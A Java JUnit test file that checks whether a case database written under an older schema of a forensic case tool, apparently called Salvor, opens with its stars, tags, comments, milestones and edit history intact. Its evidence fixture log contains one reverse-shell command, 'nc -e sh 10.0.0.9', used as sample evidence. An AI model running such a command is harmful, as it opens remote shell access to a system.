package salvor.casefile;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.ResultSet;
import java.sql.Statement;
import java.time.Clock;
import java.time.Instant;
import java.util.List;
import java.util.Objects;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import salvor.jobs.Progress;
import salvor.timeline.Milestone;

/** A case that was kept by an earlier Salvor, its database written as that one wrote it. */
class EarlierCaseTest {
  private static final String AT = "timestamp with time zone '2025-03-04 05:06:07.123456+00:00'";

  private @TempDir Path dir;

  private OpenedCase open(Path evidence) throws Exception {
    return new Cases(Synthetic::read, Synthetic::judge, Clock.systemUTC())
        .open(Opening.inFolder(List.of(evidence), List.of(), dir.resolve("case")), Progress.NONE);
  }

  /** The first schema, which has a table more than that of today, and no note of any version. */
  private void writeFirstCase(EventId event, boolean noted) throws Exception {
    Files.createDirectories(dir.resolve("case"));
    String schema;
    try (InputStream in = EarlierCaseTest.class.getResourceAsStream("first-case.sql")) {
      schema = new String(Objects.requireNonNull(in).readAllBytes(), StandardCharsets.UTF_8);
    }
    String of = "'" + event.sha256() + "', " + event.offset();
    try (Connection old =
            DriverManager.getConnection("jdbc:h2:file:" + dir.resolve("case/case"), "sa", "");
        Statement statement = old.createStatement()) {
      statement.execute(schema);
      if (noted) {
        statement.execute(
            "create table schema_version (version int primary key, script varchar not null,"
                + " installed_at timestamp(6) with time zone default current_timestamp)");
        statement.execute("insert into schema_version values (1, 'V1__case.sql', " + AT + ")");
      }
      String by = ", 'alice', " + AT + ")";
      statement.execute("insert into entry values ('STAR', " + of + ", '', ''" + by);
      statement.execute("insert into entry values ('TAG', " + of + ", 'lateral', ''" + by);
      statement.execute("insert into entry values ('COMMENT', " + of + ", 'c1', 'look'" + by);
      statement.execute("insert into entry values ('MILESTONE', " + of + ", 'ISOLATED', ''" + by);
      statement.execute("insert into entry values ('ACCEPTED', " + of + ", '', 'a drill'" + by);
      statement.execute("insert into edit values (1, 'alice', " + AT + ", 'DONE')");
      statement.execute(
          "insert into edit_change values (1, 0, 'STAR', "
              + of
              + ", '', null, null, null, '', 'alice', "
              + AT
              + ")");
    }
  }

  private void opensWithItsMarks(boolean noted) throws Exception {
    Path evidence = Files.createDirectories(dir.resolve("evidence"));
    Files.writeString(evidence.resolve("a.log"), "ls -l\nnc -e sh 10.0.0.9\n");
    EventId event;
    try (OpenedCase now =
        new Cases(Synthetic::read, Synthetic::judge, Clock.systemUTC())
            .open(Opening.inMemory(List.of(evidence), List.of()), Progress.NONE)) {
      event = now.marks().event(1);
    }
    writeFirstCase(event, noted);
    try (OpenedCase opened = open(evidence)) {
      Mark mark = opened.marks().of(1);
      assertThat(mark.starred()).isTrue();
      assertThat(mark.tags()).containsExactly("lateral");
      assertThat(mark.comments()).extracting(Comment::text).containsExactly("look");
      assertThat(mark.milestones()).containsExactly(Milestone.ISOLATED);
      Comment accepted = Objects.requireNonNull(mark.accepted());
      assertThat(accepted.text()).isEqualTo("a drill");
      assertThat(accepted.author()).isEqualTo("alice");
      assertThat(accepted.at()).isEqualTo(Instant.parse("2025-03-04T05:06:07.123456Z"));
      assertThat(opened.edits().undo()).as("its history goes on").isPresent();
      assertThat(opened.edits().tag("again", 0)).isPresent();
    }
    try (OpenedCase again = open(evidence)) {
      assertThat(again.marks().of(1).starred()).isFalse();
      assertThat(again.marks().of(0).tags()).containsExactly("again");
    }
    try (Connection kept =
            DriverManager.getConnection("jdbc:h2:file:" + dir.resolve("case/case"), "sa", "");
        Statement statement = kept.createStatement();
        ResultSet version = statement.executeQuery("select max(version) from schema_version")) {
      assertThat(version.next()).isTrue();
      assertThat(version.getInt(1)).isEqualTo(1);
    }
  }

  @Test
  void opensWithItsMarksAndGoesOn() throws Exception {
    opensWithItsMarks(true);
  }

  /** Killed after the script of its schema ran and before that was noted. */
  @Test
  void opensWithItsMarksAlsoWhereItsSchemaWasNeverNoted() throws Exception {
    opensWithItsMarks(false);
  }
}
